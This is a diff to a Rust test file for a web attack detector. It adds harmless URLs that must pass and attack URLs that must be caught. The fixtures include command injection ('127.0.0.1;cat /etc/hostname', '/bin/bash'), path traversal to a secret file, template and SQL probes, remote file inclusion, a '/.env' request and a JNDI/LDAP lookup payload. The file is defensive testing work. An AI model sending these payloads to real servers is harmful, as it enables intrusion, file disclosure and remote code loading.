@@ -26,6 +26,11 @@ fn requests_of_honest_visitors_are_clean() {
         "/contact?name=O%27Brien&town=King%27s+Lynn",
         "/size?value=16%22+x+20%22",
         "/p/caf%C3%A9-cr%C3%A8me",
+        "/search?q=where+is+my+order?",
+        "/basket?code=SAVE10",
+        "/admin?cmd=start",
+        "/music?q='90-'99",
+        "/album?dir=/images/2024",
     ] {
         let verdict = judge(&WebRequest {
             method: "GET",
@@ -52,6 +57,14 @@ fn attacks_are_found_and_named() {
         ("/a?f=..%252f..%252f..%252fsecret", Kind::Traversal),
         ("/a?h=127.0.0.1;cat%20/etc/hostname", Kind::Command),
         ("/a?n=%7B%7B7*7%7D%7D", Kind::Template),
+        ("/a?f=/bin/bash", Kind::Command),
+        ("/a?r=!-1!-2", Kind::Command),
+        ("/a?cmd=python3.11%20x", Kind::Command),
+        ("/a?c=;at%202:00%20%22x%22", Kind::Command),
+        ("/a?page=http?", Kind::FileInclusion),
+        ("/a?page=ftp://files.example", Kind::FileInclusion),
+        ("/a?m=%60,%202,%201", Kind::Sql),
+        ("/a?x=a%20.%20call%20%60b%60", Kind::Xss),
         ("/a?x=$%7Bjndi:ldap://192.0.2.1/a%7D", Kind::KnownExploit),
         ("/.env", Kind::SensitiveFile),
         (
